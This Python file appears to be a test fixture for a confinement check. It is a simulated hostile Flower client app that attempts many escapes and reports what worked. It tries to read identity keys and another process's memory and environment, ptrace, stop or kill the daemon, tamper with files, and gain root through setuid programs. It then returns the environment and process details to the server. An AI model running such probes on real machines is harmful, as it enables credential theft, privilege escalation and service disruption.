"""What a hostile centre would ship as ``client/app.py``: it tries everything and reports.

Run by Flower as the link's user, with its own folder first on ``sys.path``. What to go for comes
with the run's configuration, as it would from somebody who knows the machine.
"""

import ctypes
import json
import os
import signal
import socket
import stat
import subprocess
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def train(message, context):
    folder, data = (Path(str(context.run_config[name])) for name in ("folder", "data"))
    daemon = int(context.run_config["daemon"])
    kinds = tuple(str(context.run_config["kinds"]).split(","))
    found = {}
    for name, attempt in attempts(folder, data, daemon).items():
        if name.startswith(kinds):
            try:
                found[name] = {"done": str(attempt())[:200]}
            except Exception as error:  # noqa: BLE001
                found[name] = {"refused": repr(error)[:200]}
    found["who"] = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
    found["status"] = Path("/proc/self/status").read_text()
    found["environment"] = dict(os.environ)
    handles = [path for path in Path("/proc/self/fd").iterdir() if path.is_symlink()]
    found["files"] = [str(path.readlink()) for path in handles if os.path.lexists(path)]
    report = ConfigRecord({"json": json.dumps(found)})
    return Message(RecordDict({"head": report}), reply_to=message)


def attempts(folder, data, daemon):
    """Return the attempts by name; each raises if it is refused."""
    closed = [folder / name for name in ("identity", "personal", "outbox", "cache")]
    files = [folder / name for name in FILES]
    process = Path(f"/proc/{daemon}")
    return {
        **{f"read {path.name}": path.read_bytes for path in files},
        "read data": (data / "good" / "0.png").read_bytes,
        **{f"list {path.name}": listing(path) for path in (data, folder, *closed)},
        "list daemon's files": listing(process / "fd"),
        "list daemon's folder": listing(process / "cwd"),
        "read daemon's memory": lambda: (process / "mem").open("rb").close(),
        "read daemon's environment": (process / "environ").read_bytes,
        "read parent's environment": parents_environment,
        "ask the daemon": ask,
        "write plant.toml": lambda: (folder / "plant.toml").open("a").close(),
        "write beside it": lambda: (folder / "new").touch(),
        "write our code": lambda: Path(__import__("common").__file__).open("a").close(),
        "delete plant.toml": lambda: (folder / "plant.toml").unlink(),
        "replace link": lambda: (folder / "link").rename(folder / "old"),
        "change modes": lambda: folder.chmod(0o777),
        "link to the key": lambda: os.link(files[2], folder / "link" / "key"),
        "trace the daemon": lambda: trace(daemon),
        "stop the daemon": lambda: os.kill(daemon, signal.SIGSTOP),
        "kill the daemon": lambda: os.kill(daemon, signal.SIGKILL),
        "become root": lambda: os.setuid(0),
        "become root by a program": become_root,
    }


FILES = (
    *("plant.toml", "ledger.db", "identity/identity.key", "identity/identity.pem", "lock"),
    *("personal/1/personal.safetensors", "outbox/reply.json", "cache/images"),
)


def listing(path):
    return lambda: list(path.iterdir())


def trace(pid):
    library = ctypes.CDLL(None, use_errno=True)
    if library.ptrace(16, pid, 0, 0):  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")


def become_root():
    """Any set-user-ID program of root's does to see whether they work here."""
    for name in ("su", "sudo", "mount", "passwd", "newgrp", "chsh"):
        path = Path("/usr/bin", name)
        if path.exists() and path.stat().st_mode & stat.S_ISUID and path.stat().st_uid == 0:
            # The effective user of a program is to be seen while it waits for its input.
            with subprocess.Popen([path], stdin=subprocess.PIPE, stdout=-3, stderr=-3) as running:
                status = Path(f"/proc/{running.pid}/status").read_text()
                running.kill()
            uids = next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]
            if "0" in uids:
                return uids
    raise PermissionError("no program gives root")


def parents_environment():
    """Look for one of an ancestor that does not run as this user."""
    pid = os.getpid()
    while pid > 1:
        status = Path(f"/proc/{pid}/status").read_text()
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields["Uid"].split()[0] != str(os.getuid()):
            return Path(f"/proc/{pid}/environ").read_bytes()
        pid = int(fields["PPid"])
    raise LookupError("all ancestors run as this user")


def ask():
    """The one thing that is allowed: the daemon's service on its socket."""
    import grpc

    from common.wire.plant_pb2 import DescribeRequest
    from common.wire.plant_pb2_grpc import PlantStub

    address = os.environ["TRANSFERLINE_PLANT"]
    with socket.socket(socket.AF_UNIX) as raw:
        raw.connect(address.removeprefix("unix:"))
    with grpc.insecure_channel(address) as channel:
        return PlantStub(channel).Describe(DescribeRequest(), timeout=20).plant
